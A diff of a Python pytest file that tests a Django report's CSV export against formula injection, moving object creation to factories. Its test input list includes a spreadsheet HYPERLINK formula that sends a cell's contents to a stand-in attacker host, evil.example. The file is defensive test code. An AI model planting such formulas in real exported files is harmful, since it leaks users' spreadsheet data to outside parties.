@@ -6,6 +6,7 @@ import csv
 import io
 
 import pytest
+from factories import ModelVersionFactory, ReportFactory
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
@@ -52,14 +53,11 @@ def test_numbers_stay_numbers():
 
 @pytest.mark.django_db
 def test_song_titles_in_a_report_csv_reach_no_cell_as_a_formula(logged_in_client, project, user):
-    from jobs.models import ModelVersion
-    from reports.models import EvaluationReport
-
-    model = ModelVersion.objects.create(project=project, name="=1+1", kind="target", checkpoint="m/x.pt")
+    model = ModelVersionFactory(project=project, name="=1+1", kind="target", checkpoint="m/x.pt")
     per_song = [{"song": i + 1, "title": title, "revision": i + 10, "frames": 100, "f1": 0.5}
                 for i, title in enumerate(FORMULAS)]
-    report = EvaluationReport.objects.create(project=project, model_version=model, name="@SUM(1,2)",
-                                             per_song=per_song, pooled={"frames": 1200, "f1": -0.25})
+    report = ReportFactory(project=project, model_version=model, name="@SUM(1,2)",
+                           per_song=per_song, pooled={"frames": 1200, "f1": -0.25})
     response = logged_in_client.get(f"/api/reports/{report.pk}.csv")
     assert response.status_code == 200
     rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
